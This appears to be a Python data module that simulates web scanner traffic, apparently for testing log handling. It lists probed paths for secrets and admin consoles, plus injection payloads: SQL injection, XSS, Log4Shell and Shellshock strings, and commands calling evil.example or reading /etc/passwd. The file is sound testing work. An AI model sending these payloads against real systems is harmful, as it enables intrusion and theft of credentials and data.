"""What scanners ask for and say. Hostile text is only ever data here: it is written as it stands and never interpreted."""

from __future__ import annotations

from collections.abc import Sequence
from typing import Final

_FILES: Final = (
    "/.env", "/.env.bak", "/.env.local", "/.env.production", "/api/.env", "/laravel/.env", "/backend/.env", "/.git/config",
    "/.git/HEAD", "/.svn/entries", "/.hg/hgrc", "/.aws/credentials", "/.ssh/id_rsa", "/id_rsa", "/.htpasswd", "/.htaccess",
    "/.DS_Store", "/.vscode/sftp.json", "/.npmrc", "/.docker/config.json", "/config.json", "/config.yml", "/config.php.bak",
    "/web.config", "/settings.py", "/database.yml", "/credentials.json", "/secrets.json", "/backup.zip", "/backup.tar.gz",
    "/backup.sql", "/dump.sql", "/db.sql", "/site.tar.gz", "/www.zip", "/old/", "/test.php", "/info.php", "/phpinfo.php",
    "/i.php", "/shell.php", "/cmd.php", "/upload.php", "/adminer.php", "/error_log", "/debug.log", "/storage/logs/laravel.log",
)  # fmt: skip
_CONSOLES: Final = (
    "/wp-login.php", "/wp-admin/", "/wp-admin/setup-config.php", "/wp-content/plugins/", "/wp-json/wp/v2/users", "/xmlrpc.php",
    "/wp-includes/wlwmanifest.xml", "/blog/wp-login.php", "/wordpress/wp-login.php", "/administrator/", "/admin/", "/admin/login",
    "/admin.php", "/user/login", "/phpmyadmin/", "/pma/", "/mysql/", "/myadmin/", "/manager/html", "/host-manager/html",
    "/jenkins/", "/console/", "/solr/admin/info/system", "/solr/", "/hudson/", "/kibana/", "/grafana/login", "/login.action",
    "/actuator/env", "/actuator/health", "/actuator/heapdump", "/server-status", "/server-info", "/owa/auth/logon.aspx",
    "/autodiscover/autodiscover.xml", "/ecp/", "/remote/login", "/dana-na/auth/url_default/welcome.cgi", "/vpn/index.html",
    "/+CSCOE+/logon.html", "/global-protect/login.esp", "/telescope/requests", "/_ignition/execute-solution", "/horizon/",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/cgi-bin/", "/boaform/admin/formLogin", "/HNAP1",
    "/setup.cgi", "/goform/set_LimitClient_cfg", "/tmUnblock.cgi", "/stalker_portal/c/", "/streaming/clients_live.php",
)  # fmt: skip
_SERVICES: Final = (
    "/api/v1/users", "/api/v2/users", "/api/users", "/api/admin", "/api/config", "/api/swagger.json", "/swagger.json",
    "/swagger-ui.html", "/v2/api-docs", "/openapi.json", "/graphql", "/graphiql", "/v1/users", "/v1/admin", "/v1/keys",
    "/rest/api/latest/serverInfo", "/jmx-console/", "/invoker/JMXInvokerServlet", "/_cluster/health", "/_cat/indices",
    "/v2/_catalog", "/api/v1/pods", "/metrics", "/debug/pprof/", "/.well-known/security.txt", "/trace.axd", "/elmah.axd",
)  # fmt: skip
_TRAVERSALS: Final = (
    "/../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini", "/..;/manager/html", "/<script>alert(1)</script>", "/![x](https://evil.example/p.png)",
    "/${jndi:ldap://evil.example/a}", "/=cmd|'/c calc'!A0", "/%0d%0aSet-Cookie:%20x=1", "/\u202egnp.exe",
)  # fmt: skip

PATHS: Final = (*_FILES, *_CONSOLES, *_SERVICES, *_TRAVERSALS)

FORBIDDEN: Final = frozenset(PATHS.index(path) for path in ("/admin/", "/server-status", "/admin/login", "/metrics"))
"""Places in PATHS that exist and are refused with 403 instead of 404."""

_PAYLOADS: Final = (
    "1' OR '1'='1", "1' UNION SELECT NULL,NULL,version()--", "1; DROP TABLE users--", "1' AND SLEEP(5)#", "1)) OR 1=1--",
    "admin'--", "1 AND extractvalue(1,concat(0x7e,user()))", "<script>alert(document.cookie)</script>", "<svg/onload=alert(1)>",
    "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
    "${jndi:ldap://evil.example/x}", "${${lower:j}ndi:rmi://evil.example/x}", "() { :;}; echo vulnerable", ";cat /etc/passwd",
    "|id", "$(curl evil.example)", "`id`", "../../../../etc/passwd", "php://filter/convert.base64-encode/resource=index",
    "http://169.254.169.254/latest/meta-data/", "![a](https://evil.example/beacon.png)", "[click](javascript:alert(1))",
    "=HYPERLINK(\"https://evil.example\",\"x\")", "+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "%00", "\u0000\u001b[31m",
)  # fmt: skip

USER_AGENTS: Final = (
    "Mozilla/5.0 (compatible; scan/1.0)",
    "",
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
    "${jndi:ldap://evil.example/ua}",
    "() { :;}; /bin/bash -c 'curl evil.example'",
    "<script>alert('ua')</script>",
    "![ua](https://evil.example/ua.png) **bold**",
    "'; DROP TABLE http_logs; --",
    "=cmd|'/c calc'!A0",
    "masscan-ng/1.3 (https://github.com/bi-zone/masscan-ng)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Firefox/153.0",
)
"""What scanners call themselves: tools by their names, browsers they are not, and text meant for whoever reads the log."""


def injected() -> Sequence[tuple[str, str]]:
    """Paths of the site with a payload in each of their parameters."""
    places = (("/search", "q"), ("/product/1", "id"), ("/category/shoes", "sort"), ("/api/items", "page"), ("/cart", "coupon"))
    return [(path, f"{name}={payload}") for path, name in places for payload in _PAYLOADS]
